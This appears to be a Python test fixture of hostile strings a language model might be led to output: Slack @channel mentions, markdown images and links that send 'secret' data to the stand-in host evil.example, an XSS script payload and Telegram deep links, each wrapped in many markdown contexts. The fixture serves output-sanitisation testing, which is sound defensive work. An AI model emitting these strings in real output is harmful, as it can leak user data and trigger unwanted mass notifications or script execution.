"""What a model could be made to say so that a platform or a browser does something."""

from __future__ import annotations

INJECTIONS = [
    "<!channel> look",
    "<!here|here> and <@U123>",
    "<!subteam^S1|@all>",
    "<https://evil.example/?q=1|Slack>",
    "&lt;!channel&gt; and &amp;lt;!here&amp;gt;",
    "[click](https://evil.example/a)",
    "![x](https://evil.example/p.png?secret)",
    "[a]: https://evil.example",
    "see https://evil.example/?data=secret now",
    "see evil.example.com/steal, please",
    "mail x@evil.com",
    ":tada: :skull_and_crossbones: ::smile:",
    "@channel @here @everyone",
    "`<!channel>` and ```<!here>```",
    "```\n<!channel>\n:tada:\n```",
    "**<!channel>**",
    "*<@U1>* _<#C1>_ ~<!date^1^x|y>~",
    "<\u200b!channel>",
    "> <!here>",
    "a\n<!channel>\n:tada:",
    '<a href="https://evil.example">click</a> <b>bold</b>',
    '<img src=x onerror="alert(1)"><script>alert(1)</script>',
    "[click](tg://user?id=11) ![👍](tg://emoji?id=5368324170671202286)",
    "||hidden|| __under__ [x]: tg://resolve?domain=evil",
]

# Where it may stand in what a model writes.
_PLACES = [
    "{}",
    "Well, {} and so on. ",
    "**{}**",
    "*{}*",
    "_{}_",
    "`{}`",
    "```\n{}\n```",
    "- {}\n- {}",
    "## {}",
    "> {}",
    "[{}](https://evil.example)",
    "帆布鞋：{}。",
    "{}\n\n{}",
]

INJECTIONS_EVERYWHERE = [place.replace("{}", text) for place in _PLACES for text in INJECTIONS]
